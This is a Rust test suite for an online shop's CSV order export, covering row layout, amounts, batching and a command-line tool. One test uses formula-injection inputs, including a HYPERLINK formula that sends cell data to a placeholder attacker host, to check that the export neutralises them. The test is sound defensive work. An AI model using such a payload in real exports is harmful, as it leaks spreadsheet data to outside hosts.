//! Exporting orders as CSV.

use serde_json::json;
use wares::infra::database::{Address, Database};
use wares::sales::order::entity::{Status, line as order_line};
use wares::sales::order::service::export::OrderExport;

use super::placed_orders::{address, line, order, unconfirmed};
use crate::harness::{App, on_both_databases};

/// Returns the whole file.
async fn export(app: &App) -> (String, u64) {
    let mut export = OrderExport::begin(&app.state).await.unwrap();
    let mut file = Vec::new();
    while let Some(piece) = export.next().await.unwrap() {
        file.extend_from_slice(&piece);
    }
    (String::from_utf8(file).unwrap(), export.orders)
}

/// Reads a file strictly by RFC 4180: rows of cells.
fn read(file: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let (mut is_quoted, mut characters) = (false, file.chars().peekable());
    while let Some(character) = characters.next() {
        let row = rows.last_mut().unwrap();
        match character {
            '"' if is_quoted && characters.next_if_eq(&'"').is_some() => {
                row.last_mut().unwrap().push('"');
            }
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(String::new()),
            '\r' if !is_quoted => {
                assert_eq!(characters.next(), Some('\n'));
                rows.push(vec![String::new()]);
            }
            other => row.last_mut().unwrap().push(other),
        }
    }
    assert_eq!(rows.pop(), Some(vec![String::new()]));
    rows
}

/// Returns the cells of a column.
fn column<'a>(rows: &'a [Vec<String>], name: &str) -> Vec<&'a str> {
    let index = rows[0].iter().position(|heading| heading == name);
    let index = index.unwrap_or_else(|| panic!("no column {name}"));
    rows[1..].iter().map(|row| row[index].as_str()).collect()
}

fn untracked(sku: &str, quantity: i32) -> order_line::Model {
    let variant = wares::catalog::product::entity::variant::VariantId(uuid::Uuid::now_v7());
    order_line::Model {
        tracked: false,
        ..line(variant, sku, quantity)
    }
}

/// Stores an order of two lines and one of a line, and exports both.
async fn export_two(app: &App) -> Vec<Vec<String>> {
    let (empty, orders) = export(app).await;
    assert_eq!((read(&empty).len(), orders), (1, 0));
    let mut pan = untracked("PAN", 2);
    pan.options =
        json!([{"name": "Size", "value": "M"}, {"name": "Color", "value": "Red"}]).to_string();
    pan.attributes = json!([{"name": "Engraving", "value": "For Ann"}]).to_string();
    (pan.tax_name, pan.tax_ppm, pan.tax) = (Some("VAT".to_owned()), 81_000, 150);
    (pan.discount, pan.total) = (100, 1_900);
    (pan.canceled, pan.fulfilled, pan.returned) = (1, 1, 1);
    let mut pot = untracked("POT", 1);
    pot.sku = None;
    order(app, vec![pan, pot], |row| {
        row.items = 3_000;
        row.discount = 100;
        row.shipping = 490;
        row.tax = 150;
        row.total = 3_390;
        row.captured = 3_390;
        row.refunded = 90;
    })
    .await;
    order(app, vec![untracked("CUP", 1)], |row| {
        unconfirmed(row, Status::Expired);
    })
    .await;
    let (file, orders) = export(app).await;
    assert_eq!(orders, 2);
    read(&file)
}

/// Returns these columns of each row, separated by `|`.
fn columns(rows: &[Vec<String>], names: &[&str]) -> Vec<String> {
    let cells: Vec<_> = names.iter().map(|name| column(rows, name)).collect();
    let row = |row: usize| cells.iter().map(|cells| cells[row]).collect::<Vec<_>>();
    (0..rows.len() - 1)
        .map(|index| row(index).join("|"))
        .collect()
}

#[tokio::test]
async fn each_line_is_a_row() {
    on_both_databases(async |app| {
        let rows = export_two(app).await;
        assert!(rows.iter().all(|row| row.len() == rows[0].len()));
        assert_eq!(
            columns(
                &rows,
                &[
                    "number",
                    "status",
                    "payment_status",
                    "fulfillment_status",
                    "placed_at",
                    "email",
                    "country"
                ]
            ),
            [
                "1001|CONFIRMED|PAID|NONE|2026-01-01T00:00:00.000000Z|ann@shop.example|DE",
                "1001|CONFIRMED|PAID|NONE|2026-01-01T00:00:00.000000Z|ann@shop.example|DE",
                "|EXPIRED|UNPAID|NONE|2026-01-01T00:00:00.000000Z|ann@shop.example|DE",
            ]
        );
        assert_eq!(
            columns(
                &rows,
                &[
                    "line",
                    "sku",
                    "name",
                    "options",
                    "attributes",
                    "quantity",
                    "canceled",
                    "fulfilled",
                    "returned"
                ]
            ),
            [
                "1|PAN|PAN|Size: M, Color: Red|Engraving: For Ann|2|1|1|1",
                "2||POT|||1|0|0|0",
                "1|CUP|CUP|||1|0|0|0"
            ]
        );
        assert_eq!(
            columns(
                &rows,
                &["shipping_name", "shipping_postal_code", "billing_country"]
            )[0],
            "Ann Miller|10115|DE"
        );
    })
    .await;
}

#[tokio::test]
async fn amounts_of_an_order_are_in_its_first_row() {
    on_both_databases(async |app| {
        let rows = export_two(app).await;
        let currency = app.state.config.shop_currency.code();
        assert_eq!(
            columns(
                &rows,
                &[
                    "unit_price",
                    "discount",
                    "total",
                    "tax_name",
                    "tax_rate",
                    "tax"
                ]
            ),
            [
                "10.00|1.00|19.00|VAT|8.1|1.50",
                "10.00|0.00|10.00||0|0.00",
                "10.00|0.00|10.00||0|0.00"
            ]
        );
        assert_eq!(
            columns(
                &rows,
                &[
                    "currency",
                    "order_items",
                    "order_discount",
                    "shipping",
                    "order_tax",
                    "order_total",
                    "captured",
                    "refunded"
                ]
            ),
            [
                format!("{currency}|30.00|1.00|4.90|1.50|33.90|33.90|0.90"),
                "|||||||".to_owned(),
                format!("{currency}|10.00|0.00|0.00|0.00|10.00|0.00|0.00"),
            ]
        );
    })
    .await;
}

#[tokio::test]
async fn texts_of_buyers_are_no_formulas() {
    on_both_databases(async |app| {
        let texts = [
            "=HYPERLINK(\"http://evil.example?\"&A1)",
            "+1",
            "-1",
            "@SUM(A1)",
            "＝1+1",
            "a \"quoted\", text;\r\nwith lines",
            " spaced ",
            "it's = 1",
        ];
        for text in texts {
            let mut line = untracked("PAN", 1);
            line.name = text.to_owned();
            line.attributes = json!([{"name": text, "value": "x"}]).to_string();
            order(app, vec![line], |row| {
                row.note = Some(text.to_owned());
                row.phone = Some(text.to_owned());
                row.shipping_address = Some(address(text).to_string());
            })
            .await;
        }
        let (file, _) = export(app).await;
        let rows = read(&file);
        let expected: Vec<_> = texts
            .iter()
            .enumerate()
            .map(|(index, text)| {
                if index < 5 {
                    format!("'{text}")
                } else {
                    (*text).to_owned()
                }
            })
            .collect();
        for name in ["name", "note", "phone", "shipping_name", "billing_name"] {
            assert_eq!(column(&rows, name), expected, "{name}");
        }
        let attributes = column(&rows, "attributes");
        assert_eq!(attributes[1], "'+1: x");
    })
    .await;
}

#[tokio::test]
async fn a_file_named_orders_has_all_orders_over_many_batches() {
    on_both_databases(async |app| {
        for _ in 0..401 {
            order(app, vec![untracked("PAN", 1), untracked("POT", 1)], |_| ()).await;
        }
        let (file, orders) = export(app).await;
        let rows = read(&file);
        assert_eq!((orders, rows.len()), (401, 803));
        let mut ids = column(&rows, "order_id");
        ids.dedup();
        assert_eq!(ids.len(), 401);
        let numbers: Vec<i64> = column(&rows, "number")
            .iter()
            .map(|number| number.parse().unwrap())
            .collect();
        assert!(numbers.is_sorted());
    })
    .await;
}

#[tokio::test]
async fn the_command_exports_orders_by_name_or_by_option() {
    use crate::harness::{Backend, Process, database_flag, fresh_database};
    let folder = tempfile::tempdir().unwrap();
    let address: Address = fresh_database(Backend::Sqlite, folder.path()).await;
    Database::connect(&address, 1)
        .await
        .unwrap()
        .close()
        .await
        .unwrap();
    let database = database_flag(&address);
    let run = |args: &[&str]| {
        let args: Vec<_> = std::iter::once(database.as_str())
            .chain(args.iter().copied())
            .collect();
        let output = Process::run(folder.path(), &args);
        (
            output.status.code(),
            String::from_utf8(output.stdout).unwrap(),
            String::from_utf8(output.stderr).unwrap(),
        )
    };
    let (code, stdout, stderr) = run(&["export", "orders.csv"]);
    assert_eq!(
        (code, stdout.as_str(), stderr.as_str()),
        (Some(0), "0 orders\n", "")
    );
    let written = std::fs::read_to_string(folder.path().join("orders.csv")).unwrap();
    assert!(written.starts_with("number,order_id,status,"), "{written}");
    let (_, printed, _) = run(&["export", "--of", "orders"]);
    assert_eq!(printed, written);
    let (code, stdout, _) = run(&["export", "--of", "products", "orders.csv"]);
    assert_eq!((code, stdout.as_str()), (Some(0), "0 products\n"));
    let (code, _, stderr) = run(&["export", "--format", "shopify", "orders.csv"]);
    assert_eq!(code, Some(1));
    assert!(
        stderr.contains("--format shopify is for products"),
        "{stderr}"
    );
}
